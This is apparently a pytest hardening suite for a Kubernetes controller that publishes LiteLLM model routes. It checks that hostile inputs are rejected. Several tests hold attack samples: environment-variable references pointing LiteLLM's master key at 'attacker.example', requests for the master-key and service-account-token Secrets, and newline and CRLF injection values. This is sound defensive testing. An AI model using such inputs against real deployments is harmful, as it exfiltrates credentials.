"""Issue 12: what someone who can edit only ai-external-models or a ModelActivation must not achieve.

Each test reproduces one attack or hostile input against the pure core (the real LiteLLM peer repeats the
important ones in tests/adapters/litellm/test_hardening_peer.py).
"""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog_core.commands import CreateLiteLLMModel, RecreateLiteLLMModel, SecretKey, UpdateLiteLLMModel
from catalog_core.values import ALIAS_PREFIXES, logical_name
from tests.core import builders as b
from tests.core import strategies as gen
from tests.core.harness import Cluster

PROVIDER = {"appliance.magicstick.dev/model-provider-secret": "true"}
LABEL_HINT = "kubectl label secret -n ai {name} appliance.magicstick.dev/model-provider-secret=true"
MASTER = "sk-master-canary-123456"
WRITES = (CreateLiteLLMModel, UpdateLiteLLMModel, RecreateLiteLLMModel)


def _writes(c: Cluster) -> list[CreateLiteLLMModel | UpdateLiteLLMModel | RecreateLiteLLMModel]:
    return [x for x in c.commands if isinstance(x, WRITES)]


# --- 1. os.environ/ indirection ------------------------------------------------------------------


def test_activation_reading_litellms_master_key_from_its_environment_is_never_published():
    """The attack of issue 12 item 1, verbatim: LiteLLM would send its own master key to the attacker."""
    c = Cluster()
    c.start(
        b.activation(
            "exfil",
            external={
                "model": "os.environ/LITELLM_MASTER_KEY",
                "customLlmProvider": "openai",
                "apiBase": "https://attacker.example",
            },
        ),
        b.activation("fine", external={"model": "openai/gpt-4o"}),
    )
    assert c.model_ids() == ["fine"]  # the rest is published
    rec = c.record("exfil")
    assert (rec["state"], rec["reason"]) == ("error", "EnvReferenceRejected")
    assert "os.environ/" not in json.dumps(c.world.rows)
    assert all("os.environ" not in json.dumps(x.litellm_params.value()) for x in _writes(c))


@pytest.mark.parametrize(
    "field",
    [
        {"model": "os.environ/DATABASE_URL"},
        {"model": "x", "litellm": {"model": "  OS.ENVIRON/DATABASE_URL"}},
        {"model": "x", "apiBase": "os.environ/ATTACKER_URL"},
        {"model": "x", "apiVersion": "Os.Environ/LITELLM_MASTER_KEY"},
        {"model": "x", "customLlmProvider": "os.environ/X"},
        {"model": "x", "apiKey": "os.environ/LITELLM_MASTER_KEY"},
        {"model": "x", "litellm": {"api_key": " os.environ/LITELLM_MASTER_KEY"}},
    ],
)
def test_every_field_that_reaches_litellm_params_refuses_env_references(field):
    c = Cluster()
    c.start(b.external_configmap([{"name": "bad"} | field, {"name": "good", "model": "openai/x"}]))
    assert c.model_ids() == ["good"]
    assert c.record("bad")["reason"] == "EnvReferenceRejected"
    assert "environ" not in json.dumps(c.world.rows).lower()


def test_an_env_reference_in_a_secret_value_is_refused():
    c = Cluster()
    ref = {"name": "ai-model-provider-x", "key": "k"}
    c.start(
        b.external_configmap([{"name": "m", "model": "openai/x", "apiKeySecretRef": ref}]),
        b.secret("ai-model-provider-x", {"k": "os.environ/LITELLM_MASTER_KEY"}),
    )
    assert c.model_ids() == []
    assert c.record("m")["reason"] == "EnvReferenceRejected"


def test_an_edit_to_an_env_reference_keeps_the_safe_last_good_route():
    c = Cluster()
    c.start(b.external_configmap([{"name": "m", "model": "openai/gpt-4o"}]))
    row = json.dumps(c.world.rows)
    c.apply(b.external_configmap([{"name": "m", "model": "os.environ/LITELLM_MASTER_KEY"}]))
    assert json.dumps(c.world.rows) == row  # nothing written
    assert c.record("m")["reason"] == "EnvReferenceRejected"


# --- 2. the allow-list, for every Secret reference ----------------------------------------------


def test_the_master_key_secret_is_never_handed_out_even_if_labelled():
    """Issue 12 item 2: before, `render --show-secrets` showed api_key: <master key> beside the attacker's
    api_base."""
    ref = {"name": "litellm-masterkey-secret", "key": "LITELLM_MASTER_KEY"}
    c = Cluster()
    c.start(
        b.external_configmap(
            [
                {
                    "name": "steal",
                    "model": "openai/x",
                    "apiBase": "https://attacker.example",
                    "apiKeySecretRef": ref,
                }
            ]
        ),
        b.activation("steal2", external={"model": "openai/x", "apiKeySecretRef": ref}),
        b.secret("litellm-masterkey-secret", {"LITELLM_MASTER_KEY": MASTER}, labels=PROVIDER),
    )
    assert c.model_ids() == []
    for name in ("steal", "steal2"):
        rec = c.record(name)
        assert rec["reason"] == "SecretNotAllowed"
        assert "master key" in rec["message"]
    assert not any(isinstance(x.api_key, SecretKey) for x in _writes(c))
    assert MASTER not in repr(c.state) + repr(c.world.events) + json.dumps(c.world.rows)


def test_the_master_key_secret_name_follows_the_configuration():
    ref = {"name": "my-master", "key": "k"}
    c = Cluster(LITELLM_MASTER_KEY_SECRET_NAME="my-master")
    c.start(
        b.external_configmap([{"name": "m", "model": "openai/x", "apiKeySecretRef": ref}]),
        b.secret("my-master", {"k": MASTER}),
    )
    assert c.record("m")["reason"] == "SecretNotAllowed"


def test_a_service_account_token_secret_is_never_handed_out_even_if_labelled():
    token = b.secret("ai-model-provider-token", {"token": "eyJhbGciOi-canary"}, labels=PROVIDER)
    token["type"] = "kubernetes.io/service-account-token"
    c = Cluster()
    c.start(
        b.external_configmap(
            [
                {
                    "name": "m",
                    "model": "openai/x",
                    "apiKeySecretRef": {"name": "ai-model-provider-token", "key": "token"},
                }
            ]
        ),
        token,
    )
    rec = c.record("m")
    assert rec["reason"] == "SecretNotAllowed" and "ServiceAccount token" in rec["message"]
    assert "eyJhbGciOi-canary" not in repr(c.state) + repr(c.world.events)


@pytest.mark.parametrize("source", ["models.json", "activation"])
def test_a_refused_secret_says_how_to_allow_it(source):
    ref = {"name": "openai", "key": "apiKey"}
    obj = (
        b.external_configmap([{"name": "m", "model": "openai/x", "apiKeySecretRef": ref}])
        if source == "models.json"
        else b.activation("m", external={"model": "openai/x", "apiKeySecretRef": ref})
    )
    c = Cluster()
    c.start(obj, b.secret("openai", {"apiKey": "v"}, labels={}))
    rec = c.record("m")
    assert rec["reason"] == "SecretNotAllowed"
    assert LABEL_HINT.format(name="openai") in rec["message"]
    warning = next(e for e in c.world.events if e.reason == "SecretNotAllowed")
    assert LABEL_HINT.format(name="openai") in warning.message


def test_upgrade_an_external_model_whose_secret_is_not_labelled_is_withheld_until_labelled():
    """The README's upgrade note: a route published by the old controller is withdrawn, the Event says
    how to allow the Secret, and labelling it publishes the route again."""
    ref = {"name": "openai", "key": "apiKey"}
    cm = b.external_configmap([{"name": "m", "model": "openai/x", "apiKeySecretRef": ref}])
    old_row = b.row("m", "ai-appliance-external-m", managed=True)  # what the old controller wrote
    c = Cluster()
    c.start(cm, b.secret("openai", {"apiKey": "v"}, labels={}), rows=[old_row])
    assert "ai-appliance-external-m" not in c.world.rows
    assert c.record("m")["reason"] == "SecretNotAllowed"
    c.apply(b.secret("openai", {"apiKey": "v"}, labels=PROVIDER, rv="2"))
    assert c.model_ids() == ["m"]
    assert c.record("m")["reason"] == "Published"


def test_removing_the_label_is_reported_and_stops_every_use():
    """A label-selected watch sees a label removed as the Secret deleted: the right to it is lost, so the
    route that carried its key is withdrawn (issue 32 item 3), the record says SecretNotAllowed with how to
    allow it, and no other item can start using it."""
    ref = {"name": "openai", "key": "apiKey"}
    c = Cluster()
    c.start(
        b.external_configmap([{"name": "m", "model": "openai/x", "apiKeySecretRef": ref}]),
        b.secret("openai", {"apiKey": "v"}),
    )
    assert c.model_ids() == ["m"]
    c.delete(b.secret("openai", {"apiKey": "v"}, rv="2"))
    rec = c.record("m")
    assert rec["reason"] == "SecretNotAllowed" and "servingLastGood" not in rec
    assert "ai-appliance-external-m" not in c.world.rows
    assert LABEL_HINT.format(name="openai") in rec["message"]
    c.apply(b.activation("newcomer", external={"model": "openai/y", "apiKeySecretRef": ref}))
    assert c.record("newcomer")["reason"] == "SecretNotAllowed"
    assert "ai-appliance-activation-newcomer" not in c.world.rows


@settings(max_examples=40)
@given(gen.cluster())
def test_no_route_ever_carries_a_secret_off_the_allow_list(world):
    objs, rows = world
    c = Cluster()
    c.start(*objs, rows=rows)
    for x in _writes(c):
        if isinstance(x.api_key, SecretKey):
            assert x.api_key.name in ("openai", "labelled", "ai-model-provider-m"), x.api_key


# --- Secret values that cannot be keys -------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "why"),
    [({"k": ""}, "is empty"), ({"k": "   "}, "is empty"), (None, "not valid base64-encoded UTF-8")],
)
def test_an_empty_or_undecodable_secret_value_is_a_per_item_error(data, why):
    secret = b.secret("ai-model-provider-x", data or {})
    if data is None:
        secret["data"] = {"k": "//79"}  # base64 of bytes that are not UTF-8
    c = Cluster()
    c.start(
        b.external_configmap(
            [
                {
                    "name": "m",
                    "model": "openai/x",
                    "apiKeySecretRef": {"name": "ai-model-provider-x", "key": "k"},
                },
                {"name": "other", "model": "openai/y"},
            ]
        ),
        secret,
    )
    assert c.model_ids() == ["other"]
    rec = c.record("m")
    assert (rec["state"], rec["reason"]) == ("error", "SecretValueInvalid")
    assert why in rec["message"]


def test_an_empty_inline_key_is_not_published_as_an_empty_string():
    c = Cluster()
    c.start(b.external_configmap([{"name": "m", "model": "openai/x", "apiKey": ""}]))
    assert c.model_ids() == []
    assert c.record("m")["reason"] == "InvalidField"


# --- 3, 7 and the name bounds: names that would break the catalog or its readers -------------------


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("\ud800", "lone surrogate"),
        ("evil\nAI_APPLIANCE_MODEL_CATALOG_READY=false", "control character"),
        ("bell\x07", "control character"),
        ("x" * 100_000, "longer than 512"),
    ],
)
def test_a_name_that_cannot_be_published_rejects_its_item_only(name, why):
    c = Cluster()
    c.start(
        b.external_configmap([{"name": name, "model": "openai/x"}, {"name": "fine", "model": "openai/y"}])
    )
    assert c.model_ids() == ["fine"]  # the catalog is written: no crash, no CatalogTooLarge
    rec = c.record("models.json[0]")
    assert rec["state"] == "error" and why in rec["message"]
    env_lines = c.data["defaults.env"].splitlines()
    assert sum(line.startswith("AI_APPLIANCE_MODEL_CATALOG_READY=") for line in env_lines) <= 1
    assert all(line.isprintable() for line in c.data["defaults.env"].splitlines())


def test_a_lone_surrogate_escaped_in_models_json_text_does_not_stop_the_fold():
    """Issue 12 item 3, verbatim: the JSON text holds the six characters \\ud800."""
    text = '{"models": [{"name": "\\ud800", "model": "openai/x"}, {"name": "ok", "model": "openai/y"}]}'
    c = Cluster()
    c.start(b.external_configmap(None, raw_text=text))
    assert c.model_ids() == ["ok"]


@pytest.mark.parametrize("value", ["openai/x\n", "https://a.example/v1\r\nX: y"])
def test_a_multiline_litellm_value_is_refused(value):
    c = Cluster()
    field = {"model": value} if value.startswith("openai") else {"model": "openai/x", "apiBase": value}
    c.start(b.external_configmap([{"name": "m"} | field]))
    assert c.model_ids() == []
    assert c.record("m")["reason"] == "InvalidField"


# --- 6. a deeply nested object is rejected alone -------------------------------------------------------


def _deep(levels: int) -> dict:
    node: dict = {}
    for _ in range(levels):
        node = {"a": node}
    return node


def test_a_deeply_nested_kubeai_model_is_rejected_alone_and_its_source_is_listed():
    bad = b.kubeai_model("deep")
    bad["spec"]["args"] = [_deep(600)]
    c = Cluster()
    c.start(bad, b.kubeai_model("fine"))
    assert c.model_ids() == ["fine"]
    rec = c.record("deep")
    assert (rec["state"], rec["reason"]) == ("error", "NestedTooDeeply")


def test_a_deeply_nested_activation_is_rejected_alone():
    bad = b.activation("deep", external={"model": "openai/x", "extra": _deep(600)})
    c = Cluster()
    c.start(bad, b.activation("fine", external={"model": "openai/y"}))
    assert c.model_ids() == ["fine"]
    assert c.record("deep")["reason"] == "NestedTooDeeply"


def test_a_deeply_nested_models_json_keeps_the_last_good_definitions():
    c = Cluster()
    c.start(b.external_configmap([{"name": "m", "model": "openai/x"}]))
    c.apply(b.external_configmap(None, raw_text="[" * 5000 + "]" * 5000))
    assert c.model_ids() == ["m"]


@given(st.text(min_size=1, max_size=8))
@settings(max_examples=60)
def test_any_name_either_publishes_verbatim_or_is_rejected(name):
    c = Cluster()
    c.start(b.external_configmap([{"name": name, "model": "openai/x"}]))
    ids = c.model_ids()
    stripped = name.strip()
    published = [r for r in c.routes() if r["state"] == "published"]
    if ids or published:
        # a local/, share/ or mesh/ name is an alias or an export of its logical model, not an entry
        assert ids == ([] if stripped.startswith(ALIAS_PREFIXES) else [stripped])
        assert [r["name"] for r in published] == [stripped]
        assert published[0]["logicalName"] == logical_name(stripped) != ""
        stripped.encode("utf-8")  # a valid Unicode scalar value sequence
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", stripped)
    else:
        assert c.record("models.json[0]")["reason"] in ("InvalidField", "MissingField")


@pytest.mark.parametrize("name", ["mesh/", "local/", "share/", " mesh/ ", "local/ "])
def test_a_name_that_is_only_an_alias_prefix_is_rejected(name):
    """Found by the property above: "mesh/" was published as an alias of a model with no name."""
    c = Cluster()
    c.start(b.external_configmap([{"name": name, "model": "openai/x"}]))
    assert c.model_ids() == []
    record = c.record("models.json[0]")
    assert (record["state"], record["reason"]) == ("error", "InvalidField")
    assert "prefix" in record["message"]
